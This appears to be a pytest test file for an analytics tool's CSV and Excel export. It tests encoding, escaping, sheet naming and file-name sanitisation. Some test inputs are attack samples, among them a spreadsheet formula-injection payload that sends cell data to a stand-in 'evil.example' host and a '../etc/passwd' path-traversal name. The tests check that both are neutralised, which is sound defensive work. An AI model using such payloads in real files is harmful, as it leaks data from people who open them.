from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from analytics.labels import LABELS, label
from analytics.model import Report, Section, Table
from analytics.output.tables import (
    csv_file_name,
    safe_file_stem,
    sheet_names,
    write_csv,
    write_csvs,
    write_xlsx,
)
from tests.analytics.output import HOSTILE, category_table, make_report


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_csv_has_a_bom_the_stable_header_and_every_row(tmp_path):
    path = write_csv(category_table(), tmp_path / "categories.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv(path)
    assert rows[0] == ["category", "conversations", "share", "wait"]
    assert rows[1] == ["退货退款", "420", "0.42", "65"]
    assert rows[3] == [HOSTILE, "270", "0.27", ""]
    assert len(rows) == 1 + 3


def test_csv_of_every_table_including_long_and_empty_ones(tmp_path):
    report = make_report()
    paths = write_csvs(report.tables(), tmp_path / "csv")
    assert sorted(path.name for path in paths.values()) == [
        "categories.csv",
        "daily_volume.csv",
        "empty.csv",
        "messages.csv",
    ]
    assert len(read_csv(paths["messages"])) == 1 + 120
    assert read_csv(paths["empty"]) == [["a", "b"]]


def test_csv_keeps_text_with_commas_quotes_and_newlines(tmp_path):
    text = '他说："退款，谢谢"\n第二行'
    path = write_csv(Table("t", "t", ["text", "n"], [[text, 1.5]]), tmp_path / "t.csv")
    assert read_csv(path)[1] == [text, "1.5"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"看")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"看")',
        ),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+86 138", "'+86 138"),
        ("-1 我要退货", "'-1 我要退货"),
        ("\t=1", "'\t=1"),
        ("退货 =1", "退货 =1"),
    ],
)
def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path, text, written):
    """A customer's unanswered question starting with "=" reached
    knowledge_gaps.csv as it was: Excel or WPS opening the file ran it."""
    path = write_csv(Table("t", "t", ["text", "n"], [[text, -1]]), tmp_path / "t.csv")
    assert read_csv(path)[1] == [written, "-1"]


@pytest.mark.parametrize(
    ("name", "stem"),
    [
        ("daily_volume", "daily_volume"),
        ("../etc/passwd", "_etc_passwd"),
        ("退货 退款", "退货_退款"),
        ("", "table"),
    ],
)
def test_file_names_are_safe(name, stem):
    assert safe_file_stem(name) == stem
    assert csv_file_name(Table(name, "t", [])) == f"csv/{stem}.csv"


def test_sheet_names_are_valid_unique_and_short():
    names = sheet_names(
        [
            "每日会话量",
            "每日会话量",
            "A very long English table title that goes past the limit",
            "A very long English table title that goes past the limit",
            "rates [a/b]: *?\\",
            "'quoted'",
            "History",
            "",
            "每日会话量".upper(),
        ]
    )
    assert names[0] == "每日会话量"
    assert names[1] == "每日会话量 (2)"
    assert all(0 < len(name) <= 31 for name in names)
    assert len({name.casefold() for name in names}) == len(names)
    assert not any(set(name) & set("[]:*?/\\") for name in names)
    assert names[5] == "quoted"
    assert names[6].casefold() != "history"


def test_xlsx_has_one_sheet_per_table_with_translated_headers(tmp_path, monkeypatch):
    monkeypatch.setitem(LABELS, "categories", ("问题分类", "Categories"))
    monkeypatch.setitem(LABELS, "category", ("分类", "Category"))
    monkeypatch.setitem(LABELS, "share", ("占比", "Share"))
    report = make_report("zh")
    workbook = openpyxl.load_workbook(write_xlsx(report, tmp_path / "report.xlsx"))
    messages = label("messages", "zh")
    assert workbook.sheetnames == ["daily_volume", "问题分类", messages, "empty"]
    sheet = workbook["问题分类"]
    assert [cell.value for cell in sheet[1]] == [
        "分类",
        label("conversations", "zh"),
        "占比",
        "wait",
    ]
    assert sheet.freeze_panes == "A2"
    assert workbook[messages].max_row == 1 + 120
    assert workbook["empty"].max_row == 1


def test_xlsx_keeps_numbers_as_numbers_and_formats_percent(tmp_path):
    workbook = openpyxl.load_workbook(write_xlsx(make_report(), tmp_path / "report.xlsx"))
    sheet = workbook["categories"]
    row = list(sheet[2])
    assert [cell.value for cell in row] == ["退货退款", 420, 0.42, 65]
    assert row[1].data_type == "n" and row[2].data_type == "n"
    assert row[2].number_format == "0.0%"
    assert sheet["D4"].value is None


def test_xlsx_keeps_formula_like_and_control_character_text_as_text(tmp_path):
    table = Table(
        "t", "t", ["text", "n"], [['=HYPERLINK("http://x")', 1], ["bell\x07here", float("nan")]]
    )
    report = Report("a", "b", "en", {}, "now", [Section("s", tables=[table])])
    sheet = openpyxl.load_workbook(write_xlsx(report, tmp_path / "r.xlsx"))["t"]
    assert sheet["A2"].value == '=HYPERLINK("http://x")'
    assert sheet["A2"].data_type == "s"
    assert sheet["A3"].value == "bellhere"
    assert sheet["B3"].value is None


def test_xlsx_of_a_report_without_tables_still_opens(tmp_path):
    report = Report("a", "b", "zh", {}, "now")
    workbook = openpyxl.load_workbook(write_xlsx(report, tmp_path / "r.xlsx"))
    assert workbook.sheetnames == ["该区间没有数据"]
